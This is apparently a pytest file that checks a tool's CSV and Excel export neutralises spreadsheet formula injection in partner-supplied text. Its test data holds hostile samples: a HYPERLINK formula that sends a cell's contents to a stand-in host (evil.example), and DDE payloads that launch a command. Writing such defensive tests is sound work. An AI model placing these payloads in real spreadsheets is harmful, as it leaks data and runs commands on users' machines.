"""Partner text in spreadsheets: ``workbench export``'s writers never let it become a live
formula, and keep numbers numbers (``workbench report`` leaves spreadsheets to it)."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.report.conftest import NOW, crafted_tables
from workbench import reconcile
from workbench.export import export, spreadsheet_safe, write_csv
from workbench.store import Store

# partner text a spreadsheet would run: a link that leaks the sheet, DDE, a sum, a tab, a CR
HOSTILE_ORGS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "\t=1+1", "O'Brien", "\r@x"]
HOSTILE_NAMES = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\uff1d1+1"]


def hostile_rec() -> reconcile.Reconciliation:
    """The crafted reconciliation with partner text that looks like formulas, and R2 (open)
    dated 20 hours after the report's moment (a partner clock ahead of ours: within the
    plausible dates, which end a day after it)."""
    tables = crafted_tables()
    requests = tables["requests"]
    requests["source_org_name"] = HOSTILE_ORGS
    requests["student_last_name"] = HOSTILE_NAMES
    requests.loc[1, "request_date"] = NOW + pd.Timedelta(hours=20)
    return reconcile.reconcile(tables, now=NOW, sla_days=5)


@pytest.mark.parametrize("breaking", ["\r", "\n", "\r\n"])
def test_a_line_break_in_a_value_never_starts_a_row_or_a_formula(
    tmp_path: Path, breaking: str
) -> None:
    """A bare CR is a row break to spreadsheets and csv readers: every value holding one is
    quoted, so the text after it stays in its cell, never a cell (or a formula) of its own."""
    frame = pd.DataFrame({"event_id": [f"p017{breaking}=1+1", "p018"], "n": [1, 2]})
    path = tmp_path / "events.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows == [["event_id", "n"], [f"p017{breaking}=1+1", "1"], ["p018", "2"]]


def test_a_negative_number_is_a_number_not_a_formula() -> None:
    frame = pd.DataFrame({"n": [-1.5, 2.0], "mixed": [-3, "-3"], "t": ["a-b", None]})
    safe = spreadsheet_safe(frame)
    assert safe["n"].tolist() == [-1.5, 2.0] and safe["mixed"].tolist() == [-3, "'-3"]
    assert safe["t"].iloc[0] == "a-b" and pd.isna(safe["t"].iloc[1])
    assert frame["mixed"].tolist() == [-3, "-3"]  # the frame given is left as it was


def test_workbench_export_writes_partner_text_the_same_way(tmp_path: Path) -> None:
    db = tmp_path / "w.db"
    with Store(db) as store:
        run = store.begin_run()
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE runs SET host = ? WHERE id = ?", (HOSTILE_ORGS[0], run))
    conn.close()
    with Store(db, read_only=True) as store:
        done = export(store, "runs", "csv", tmp_path / "runs.csv")
        book = export(store, "runs", "xlsx", tmp_path / "runs.xlsx")
    got = pd.read_csv(done.path, dtype=str, keep_default_na=False)
    assert got["host"].tolist() == ["'" + HOSTILE_ORGS[0]]
    sheet = openpyxl.load_workbook(book.path)["runs"]
    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("host") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE_ORGS[0], "s", True)


def test_an_item_dated_in_the_future_is_0_days_old_never_negative() -> None:
    ages = hostile_rec().requests.set_index("request_id")["age_days"]
    assert ages["R2"] == 0.0 and ages.min() >= 0
